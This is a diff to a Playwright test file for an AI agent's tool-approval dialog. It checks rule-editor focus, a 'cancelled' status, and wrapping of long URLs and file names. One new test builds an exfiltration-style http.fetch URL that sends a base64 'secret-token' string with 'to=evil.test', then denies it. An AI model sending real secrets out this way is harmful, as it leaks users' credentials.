@@ -64,8 +64,12 @@ test('Always allow… shows the rule, survives a restart, and can be revoked', a
   const dialog = page.getByRole('dialog', { name: 'Write 3 characters to notes/a.md' });
   await dialog.getByRole('button', { name: 'Always allow…' }).click();
   const rule = dialog.getByRole('group', { name: 'Always allow rule' });
+  // The editor opens above the buttons: the keyboard goes to its field, and the buttons stay in sight.
+  const pattern = rule.getByRole('textbox', { name: 'Argument pattern (JSON)' });
+  await expect(pattern).toBeFocused();
+  await expect(dialog.getByRole('button', { name: 'Allow once' })).toBeInViewport();
   await expect(rule.getByTestId('approval-rule-words')).toContainText('path matches "notes/a.md"');
-  await rule.getByRole('textbox', { name: 'Argument pattern (JSON)' }).fill('{"path": {"glob": ["notes/*.md"]}}');
+  await pattern.fill('{"path": {"glob": ["notes/*.md"]}}');
   await expect(rule.getByTestId('approval-rule-words')).toContainText('path matches "notes/*.md"');
   await rule.getByRole('button', { name: 'Save rule and allow' }).click();
   await expect(lastCard(page)).toHaveAttribute('data-status', 'succeeded');
@@ -210,7 +214,42 @@ test('Esc closes the panel it was pressed in and leaves the waiting call alone; 
   await expect(page.getByRole('dialog', { name: 'Write 1 character to b.txt' })).toBeVisible();
   await page.keyboard.press('Escape');
   await expect(lastCard(page)).toHaveAttribute('data-status', 'denied');
+  // Stopped while it waited, it was not refused by anyone: it reads as cancelled.
+  await expect(lastCard(page).getByTestId('tool-status')).toHaveText('cancelled');
   await expect(stop).toHaveCount(0);
+});
+
+test('a long URL or file name wraps inside the approval dialog, read whole to its end, with every button in reach', async ({ page }) => {
+  host = new HeadlessHost();
+  mkdirSync(host.dataDir, { recursive: true });
+  // An allowlisted domain: the fetch asks before it reaches it (one off the list is refused without asking).
+  writeFileSync(join(host.dataDir, 'http-fetch.json'), JSON.stringify({ allowedDomains: ['example.com'] }));
+  await host.start();
+  await page.setViewportSize({ width: 900, height: 800 });
+  await page.goto(host.url);
+  const query = `data=${'c2VjcmV0LXRva2VuLWFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6MDEyMzQ1Njc4OQ'.repeat(5)}&to=evil.test`;
+  const longName = `${'a-very-long-unbroken-file-name-'.repeat(8)}end.txt`;
+  const calls = [
+    { message: `http.fetch {"url": "https://example.com/collect?${query}"}`, end: query.slice(-40), url: true },
+    { message: `fs.write {"path": "${longName}", "content": "x"}`, end: longName.slice(-40), url: false },
+  ];
+  for (const { message, end, url } of calls) {
+    await send(page, message);
+    const dialog = page.getByRole('dialog').last();
+    await expect(dialog.getByRole('heading')).toContainText(end);
+    if (url) await expect(dialog.getByTestId('approval-url')).toContainText(end);
+    // Nothing in it is wider than the dialog: the end of the title and of the "Reaches" line are on screen.
+    const overflowing = await dialog.evaluate((box) => {
+      const right = box.getBoundingClientRect().right;
+      return [box, ...Array.from(box.querySelectorAll('*'))].filter((el) => el.getBoundingClientRect().right > right + 1 || el.scrollWidth > el.clientWidth + 1).map((el) => el.outerHTML.slice(0, 80));
+    });
+    expect(overflowing).toEqual([]);
+    const deny = dialog.getByRole('button', { name: 'Deny' });
+    await deny.scrollIntoViewIfNeeded();
+    await expect(deny).toBeInViewport({ ratio: 1 });
+    await deny.click();
+    await expect(lastCard(page)).toHaveAttribute('data-status', 'denied');
+  }
 });
 
 test("an MCP server's file edit shows as the diff its edits make, only the lines around them, before it runs", async ({ page }) => {
